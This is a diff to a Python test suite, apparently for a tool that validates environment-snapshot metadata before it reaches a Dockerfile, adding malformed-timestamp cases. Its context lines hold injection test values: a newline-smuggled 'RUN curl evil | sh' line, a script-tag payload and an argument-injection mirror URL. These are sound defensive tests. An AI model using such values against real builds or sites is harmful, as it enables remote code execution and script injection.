@@ -209,6 +209,20 @@ def test_quotes_and_comments_do_not_fool_the_guard(tmp_path: Path, cli: Callable
             lambda d: d["envsnap"].update(created="2026\nRUN curl evil | sh\n#"),
             "envsnap.created: not a valid timestamp",
         ),
+        # The shape of RFC 3339, not a moment: reached the Dockerfile (SOURCE_DATE_EPOCH=0), and an export of an
+        # upload time past the last UTC moment Python holds ended in a traceback.
+        (lambda d: d["envsnap"].update(created="2026-02-30T00:00:00Z"), "envsnap.created: not a valid timestamp"),
+        (lambda d: d["envsnap"].update(created="2026-12-01T25:61:61Z"), "envsnap.created: not a valid timestamp"),
+        (lambda d: d["envsnap"].update(created="0000-00-00T00:00:00Z"), "envsnap.created: not a valid timestamp"),
+        (lambda d: d["envsnap"].update(created="2026-12-01T10:00:00+24:00"), "envsnap.created: not a valid"),
+        (
+            lambda d: pkg(d)["artifact"].update(upload_time="9999-12-31T23:59:59-23:59"),
+            "artifact.upload_time: not a valid timestamp",
+        ),
+        (
+            lambda d: pkg(d)["artifact"].update(upload_time="0001-01-01T00:00:00+23:59"),
+            "artifact.upload_time: not a valid timestamp",
+        ),
         (lambda d: d["envsnap"].update(generator="<script>alert(1)</script>"), "envsnap.generator"),
         (lambda d: d["python"].update(version="--mirror=http://127.0.0.1:9/"), "python.version: not a valid Python"),
         (lambda d: d["python"].update(version="tools/python3.11"), "python.version: not a valid Python"),
